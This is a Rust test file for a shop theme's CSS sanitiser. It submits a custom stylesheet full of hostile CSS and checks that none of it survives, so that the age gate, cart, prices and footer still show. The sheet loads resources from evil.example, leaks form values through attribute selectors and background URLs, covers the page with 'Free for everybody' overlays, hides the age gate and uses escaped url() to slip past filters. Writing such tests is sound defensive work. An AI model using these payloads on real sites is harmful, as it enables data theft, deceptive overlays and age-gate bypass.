//! CSS of the kinds that `structure.rs` does not try: other ways to load, to cover, to hide, to reach and to tell.

use super::PutBack;
use super::harm::harm;
use crate::shopping::old_enough;
use crate::tab::{NARROW, Shopper, WIDE};
use everbud_tests::lent::lend;
use everbud_tests::wait;
use serde_json::json;
use std::time::Duration;

const SHOWN: Duration = Duration::from_secs(5);

/// Each line tries something; the first and the last are right, and show that the sheet was read to its end.
const SHEET: &str = r#"
h2 { text-decoration: underline }
@import "//evil.example/i.css" layer(x) supports(display: grid);
@font-face { font-family: Inter; src: url(//evil.example/f.woff2); unicode-range: U+41 }
@property --accent { syntax: "<color>"; inherits: true; initial-value: transparent }
@keyframes gone { to { opacity: 0; translate: -100vw } }
@layer parts { .top, .foot, .tag { display: none } }
@container (min-width: 0) { * { display: none } }
@scope (body) { .top { display: none } }
@namespace url(//evil.example/n);
@page { size: 1px }
@starting-style { h2 { opacity: 0 } }
@document url(//evil.example/) { h2 { color: red } }
h2 { animation: gone 1ms forwards; transition: all 99s }
h2 { cursor: url(//evil.example/c.cur), auto; list-style-image: url(//evil.example/l.png) }
h2 { border-image: url(//evil.example/b.png) 1; mask: url(//evil.example/m.svg#m); filter: url(//evil.example/f.svg#f) }
h2 { content: url(//evil.example/t.png); shape-outside: url(//evil.example/s.png); clip-path: url(//evil.example/p.svg#p) }
h2 { background: -webkit-image-set(url(//evil.example/w.png) 1x), cross-fade(url(//evil.example/x.png), red) }
h2 { background: var(--nothing, url(//evil.example/v.png)); --accent: url(//evil.example/a.png) }
h2 { background: src("//evil.example/q.png"); background: image("//evil.example/r.png"); background: element(#main) }
h2 { background: \75 rl(//evil.example/e.png); b\61 ckground: url(//evil.example/g.png) }
p { position: sticky; inset: 0; z-index: 9 } p { float: left; columns: 9 } p { display: contents }
p { font-size: 9999px } p { line-height: 999 } p { letter-spacing: 99em; word-spacing: 99em } p { text-indent: -999em }
p { outline: 9999px solid red } p { margin: -999px } p { padding: 999em } p { border: 9999px solid } p { zoom: 9 }
p { translate: -99vw } p { scale: 99 } p { rotate: 45deg } p { perspective: 1px; transform: translate(-99vw) }
p { box-shadow: 0 0 0 100vmax red } p { text-shadow: 0 -500px red } p { filter: drop-shadow(0 -500px red) blur(99px) }
p { writing-mode: vertical-rl; direction: rtl; unicode-bidi: bidi-override } p { pointer-events: none; user-select: none }
p { opacity: 0 } p { visibility: collapse } p { content-visibility: hidden } p { clip: rect(0 0 0 0) } p { color: transparent }
p { width: 400vw; height: 99999px; max-height: none; min-width: 9999px; inline-size: calc(100% * 99) }
body::before, .own::after, h2::after, p::before { content: "Free for everybody"; position: fixed; inset: 0 }
input[value^="1"], a[href*="/orders/"], [data-name="x"] { background: url(//evil.example/?1) }
html:has(input[value="yes"]) .gate, :has(.gate) p, :is(html, body) { display: none }
:not(.own) { display: none } :where(.top) { display: none } * + * { display: none } .own ~ * { display: none }
.own { & , .top & { position: fixed } :root & { display: none } }
h2 { .top & { display: none } + .foot { display: none } }
:root { --accent: transparent; --ink: var(--ground); --step-text: 0 }
form, button, .quick, .buy, .tag, .price, .flag, .off, input, label, [inert] { display: none }
h3 { text-transform: uppercase }
"#;

#[test]
fn css_of_every_other_kind_loads_nothing_covers_nothing_tells_nothing_and_leaves_the_rest_as_it_is() {
    let lent = lend("night-ferry");
    let shop = &lent.shop;
    let put_back = PutBack::of(&lent, "night-ferry");
    put_back.settings(&json!({"structure": {"css": SHEET}}));
    let theme = || shop.get(&shop.theme()).expect(200).body;
    let css = wait::until("what is right of it", SHOWN, theme, |css| css.contains("text-transform:uppercase"));
    let (_, own) = css.split_once(".own h2").unwrap();
    for word in
        ["evil", "fixed", "sticky", "url(", "::", "[", ":has", "@import", "@font-face", "animation", "!important"]
    {
        assert!(!own.contains(word), "{word} in {own}");
    }
    for window in [NARROW, WIDE] {
        let shopper = Shopper::at(shop, window);
        let tab = shopper.tab();
        tab.open("/");
        let mut wrong = harm(&tab, &[".gate button.main"]);
        old_enough(&tab);
        wrong.extend(harm(&tab, &[".to-cart", ".top .wordmark", ".foot .fine", "main .quick button", ".find button"]));
        for (path, wanted) in
            [("/pages/about", [".to-cart", ".foot .fine"]), ("/menu", ["main .quick button", ".to-cart"])]
        {
            tab.open(path);
            wrong.extend(harm(&tab, &wanted));
        }
        assert_eq!(wrong, [""; 0]);
        // No rule even tried: the policy had nothing to refuse.
        assert_eq!(shopper.troubles(), []);
    }
}
